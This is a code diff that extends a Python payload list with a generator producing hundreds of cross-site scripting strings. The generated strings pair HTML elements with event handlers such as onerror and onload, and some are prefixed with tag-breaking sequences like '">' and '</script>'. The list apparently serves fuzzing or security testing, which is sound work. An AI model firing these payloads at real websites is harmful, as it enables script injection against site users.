@@ -78,3 +78,36 @@ PAYLOADS = (
     "__proto__",
     "constructor",
 )
+
+_ELEMENTS = (
+    "img src=x",
+    "svg",
+    "body",
+    "video src=x",
+    "audio src=x",
+    "input autofocus",
+    "details open",
+    "iframe",
+    "marquee",
+    "a href=#",
+    "style",
+    "dialog open",
+    "object data=x",
+    "textarea autofocus",
+)
+_HANDLERS = (
+    "onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerenter", "onmouseover", "onclick",
+    "onkeydown", "onbeforeinput", "onloadstart", "ontransitionend",
+)  # fmt: skip
+_AROUND = ("", '">', "'>", "</textarea>", "--></title>", "</script>")
+
+
+def many() -> list[str]:
+    """Give hundreds: those above, and elements with handlers, behind what may close the place where they stand."""
+    made = [
+        f"{_AROUND[(row + column) % len(_AROUND)]}<{element} {handler}={RUN}>"
+        for row, element in enumerate(_ELEMENTS)
+        for column, handler in enumerate(_HANDLERS)
+    ]
+    wrapped = [f"{around}<script>{RUN}</script>{payload}" for around in _AROUND[1:] for payload in PAYLOADS[::4]]
+    return list(dict.fromkeys([*PAYLOADS, *made, *wrapped]))
